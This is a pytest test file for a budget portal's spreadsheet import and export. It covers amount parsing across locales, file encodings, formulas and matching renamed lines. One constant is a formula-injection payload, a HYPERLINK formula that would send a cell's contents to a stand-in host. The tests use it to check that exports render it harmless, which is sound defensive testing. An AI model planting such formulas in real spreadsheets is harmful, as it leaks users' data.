"""The budget import with the files AO staff really make (issue #16, items 2-4): Excel in Russian
and English locales, Windows-1251, formulas, dates in number columns; and the portal's own
exports, formula-looking names included, read back unchanged."""
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from budget.models import BudgetLine
from budget.tabular import parse_amount
from tests.budget.factories import BudgetLineFactory, BudgetYearFactory, code
from tests.budget.test_import import HEADER, confirm, lines_of, upload
from tests.hearings.factories import ProposalFactory

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?q="&A1,"details")'


@pytest.fixture
def year(db):
    return BudgetYearFactory(year=2030, status="draft")


def errors_of(response):
    """[(row, column, message)] of the error table a person sees."""
    import re

    html = response.content.decode()
    body = html.split('class="table table-sm import-errors"', 1)[-1].split("</table>", 1)[0]
    cells = re.findall(r"<tr><td>(.*?)</td><td>(.*?)</td><td>(.*?)</td></tr>", body, re.S)
    return [(int(row), column, message) for row, column, message in cells]


def workbook_bytes(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- Item 2: formulas never travel, and the portal reads its own files back -------------------

@pytest.mark.parametrize("download", ["csv", "csv-excel", "xlsx"])
def test_a_formula_looking_name_is_exported_harmless_and_imported_back_unchanged(staff_client, year, download):
    source = BudgetYearFactory(year=2029)
    BudgetLineFactory(budget_year=source, classification=code("7096"), name=FORMULA_NAME,
                      planned=Decimal("250000.00"), amended=Decimal("260000.10"))
    BudgetLineFactory(budget_year=source, classification=code("7092"), name="-5 мектеп @ +тамак",
                      planned=Decimal("300.30"), executed=Decimal("0.01"))
    BudgetLineFactory(budget_year=source, kind="revenue", classification=code("13311"), category="transfers",
                      name="Теңдөөчү грант", planned=Decimal("6960000.00"))
    url = reverse("budget:xlsx" if download == "xlsx" else "budget:csv", kwargs={"year": source.year})
    export = staff_client.get(url + ("?dialect=excel" if download == "csv-excel" else ""))
    if download == "xlsx":
        cells = {cell.value: cell for row in load_workbook(io.BytesIO(export.content)).worksheets[0].iter_rows()
                 for cell in row}
        assert cells[FORMULA_NAME].data_type == "s"  # a text cell, never a live formula
    else:
        text = export.content.decode("utf-8-sig")
        assert "'" + FORMULA_NAME.replace('"', '""') in text
        assert "'-5 мектеп" in text
        if download == "csv-excel":
            assert export.content.startswith("\ufeff".encode()) and ";260000,10;" in text
    response = upload(staff_client, year, export.content, f"budget.{download.split('-')[0]}")
    assert "Confirm and save" in response.content.decode(), errors_of(response)
    confirm(staff_client, year)
    assert lines_of(year) == lines_of(source)


# --- Item 3: amounts ------------------------------------------------------------------------

def test_an_english_excel_thousands_separator_is_a_row_error_not_250_som(staff_client, year):
    """The issue's example: `250,000` was read as 250.00 som."""
    content = (HEADER + 'expenditure,7092,Мектептерди оңдоо,,"250,000",,\r\n').encode()
    response = upload(staff_client, year, content)
    [(row, column, message)] = errors_of(response)
    assert (row, column) == (2, "planned")
    assert "250,000" in message and "250 000" in message
    assert BudgetLine.objects.filter(budget_year=year).count() == 0


@pytest.mark.parametrize("text, amount", [
    ("250 000", "250000.00"), ("250000", "250000.00"), ("250000,00", "250000.00"), ("250 000,5", "250000.50"),
    ("250000.00", "250000.00"), ("1.250,50", "1250.50"), ("1,250.50", "1250.50"), ("1 250 000", "1250000.00"),
    ("1,250,000", "1250000.00"), ("300.29999999999995", "300.30"), ("0,255", "0.26"), ("250000.000", "250000.00"),
])
def test_amounts_as_people_write_them_are_read_right(text, amount):
    assert parse_amount(text) == Decimal(amount)


@pytest.mark.parametrize("text", ["250,000", "1.250", "1e9", "2,5E+6", "1.250.50", "1,25,000", "-100", "12,5,3"])
def test_ambiguous_or_foreign_amounts_are_refused(text):
    with pytest.raises(ValueError):
        parse_amount(text)


def test_swapped_separators_give_the_same_amount_not_a_thousand_times_less():
    assert parse_amount("1.250,50") == parse_amount("1,250.50") == Decimal("1250.50")
    assert parse_amount("12.500.000,75") == parse_amount("12,500,000.75") == Decimal("12500000.75")


def test_scientific_notation_is_refused_with_a_clear_message(staff_client, year):
    response = upload(staff_client, year, (HEADER + "expenditure,7092,Сап,,1e9,,\r\n").encode())
    [(row, column, message)] = errors_of(response)
    assert (row, column) == (2, "planned") and "scientific" in message


# --- The files staff make -------------------------------------------------------------------

def test_a_utf8_file_with_a_bom_from_english_excel_is_imported(staff_client, year):
    content = ("\ufeff" + HEADER + "expenditure,7092,Мектептерди оңдоо,,250000.50,,\r\n").encode()
    upload(staff_client, year, content)
    confirm(staff_client, year)
    assert lines_of(year)[0][2:5] == ("Мектептерди оңдоо", "education", Decimal("250000.50"))


def test_a_russian_excel_file_with_semicolons_and_decimal_commas_is_imported(staff_client, year):
    content = ("\ufeffkind;code;name;category;planned;amended;executed\r\n"
               "expenditure;7092;Мектептерди оңдоо;;250 000,50;260000,5;\r\n").encode()
    upload(staff_client, year, content)
    confirm(staff_client, year)
    assert lines_of(year)[0][4:6] == (Decimal("250000.50"), Decimal("260000.50"))


def test_a_windows_1251_file_without_kyrgyz_letters_is_imported(staff_client, year):
    content = ("kind;code;name;category;planned;amended;executed\r\n"
               "expenditure;7092;Ремонт школ;;250 000,00;;\r\n").encode("cp1251")
    upload(staff_client, year, content)
    confirm(staff_client, year)
    assert lines_of(year)[0][2] == "Ремонт школ"


def test_an_xlsx_with_formulas_takes_their_computed_values_rounded_to_the_tiyin(staff_client, year):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["kind", "code", "name", "category", "planned", "amended", "executed"])
    sheet.append(["expenditure", 7092, "Мектептерди оңдоо", None, "=100.1+200.2", None, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    # openpyxl does not compute formulas: write the value Excel would have cached, as Excel does.
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<f>100.1+200.2</f><v></v>", b"<f>100.1+200.2</f><v>300.29999999999995</v>")
                data = data.replace(b"<f>100.1+200.2</f><v />", b"<f>100.1+200.2</f><v>300.29999999999995</v>")
                assert b"300.29999999999995" in data
            target.writestr(item, data)
    upload(staff_client, year, out.getvalue(), "lines.xlsx")
    confirm(staff_client, year)
    assert lines_of(year)[0][4] == Decimal("300.30")


def test_an_xlsx_with_a_date_in_an_amount_column_is_a_row_error(staff_client, year):
    content = workbook_bytes([["kind", "code", "name", "category", "planned", "amended", "executed"],
                              ["expenditure", 7092, "Мектептерди оңдоо", None, 250000, datetime.date(2030, 3, 1),
                               None]])
    response = upload(staff_client, year, content, "lines.xlsx")
    [(row, column, message)] = errors_of(response)
    assert (row, column) == (2, "amended") and "date" in message
    assert BudgetLine.objects.filter(budget_year=year).count() == 0


# --- Item 4: lossy encodings and links ------------------------------------------------------

def test_an_export_resaved_as_windows_1251_is_refused_and_says_how_to_save_utf8(staff_client, year):
    """The issue's example: ң ө ү turned into "?" and the import took it as 20 added, 20 removed."""
    line = BudgetLineFactory(budget_year=year, classification=code("7092"), name="Мектептерди оңдоо",
                             planned=Decimal("1.00"))
    proposal = ProposalFactory(budget_line=line, status="accepted", response="Ооба")
    export = staff_client.get(reverse("budget:csv", kwargs={"year": year.year}) + "?dialect=excel")
    resaved = export.content.decode("utf-8-sig").encode("cp1251", errors="replace")
    assert b"?" in resaved
    response = upload(staff_client, year, resaved)
    [(row, column, message)] = errors_of(response)
    assert (row, column) == (2, "name") and "UTF-8" in message
    assert list(BudgetLine.objects.filter(budget_year=year).values_list("name", flat=True)) == ["Мектептерди оңдоо"]
    proposal.refresh_from_db()
    assert proposal.budget_line_id == line.pk


def test_a_replacement_character_is_a_row_error_even_for_a_new_line(staff_client, year):
    response = upload(staff_client, year, (HEADER + "expenditure,7096,Ок\ufffdуучулар,,5,,\r\n").encode())
    [(row, column, message)] = errors_of(response)
    assert (row, column) == (2, "name")


def test_a_renamed_line_is_matched_by_its_code_and_keeps_its_proposals(staff_client, year):
    line = BudgetLineFactory(budget_year=year, classification=code("7092"), name_ky="Мектептерди оңдоо")
    proposal = ProposalFactory(budget_line=line, status="accepted", response="Ооба")
    response = upload(staff_client, year, (HEADER + "expenditure,7092,Мектептерди капиталдык оңдоо,,9,,\r\n").encode())
    assert "1 updated line gets a new name" in response.content.decode()
    confirm(staff_client, year)
    line.refresh_from_db()
    proposal.refresh_from_db()
    assert (line.name_ky, line.planned, proposal.budget_line_id) == ("Мектептерди капиталдык оңдоо", Decimal("9.00"),
                                                                 line.pk)


def test_removing_a_line_a_proposal_points_to_is_named_and_refused(staff_client, year):
    linked = BudgetLineFactory(budget_year=year, classification=code("7092"), name="Мектептерди оңдоо")
    BudgetLineFactory(budget_year=year, classification=code("7064"), name="Көчө жарыгы", category="housing")
    proposal = ProposalFactory(budget_line=linked, text="Мектептин чатырын оңдоо", status="accepted",
                               response="Ооба")
    response = upload(staff_client, year, (HEADER + "expenditure,7064,Көчө жарыгы,,9,,\r\n").encode())
    html = response.content.decode()
    assert "Мектептерди оңдоо" in html and "Мектептин чатырын оңдоо" in html
    assert "Confirm and save" not in html
    confirm(staff_client, year)  # nothing is waiting: nothing changes
    proposal.refresh_from_db()
    assert proposal.budget_line_id == linked.pk
    assert BudgetLine.objects.filter(budget_year=year).count() == 2


def test_two_renamed_lines_of_one_code_are_not_guessed(staff_client, year):
    first = BudgetLineFactory(budget_year=year, classification=code("7092"), name="Биринчи")
    BudgetLineFactory(budget_year=year, classification=code("7092"), name="Экинчи")
    ProposalFactory(budget_line=first, status="accepted", response="Ооба")
    content = (HEADER + "expenditure,7092,Үчүнчү,,1,,\r\nexpenditure,7092,Төртүнчү,,1,,\r\n").encode()
    html = upload(staff_client, year, content).content.decode()
    assert "Биринчи" in html and "Confirm and save" not in html
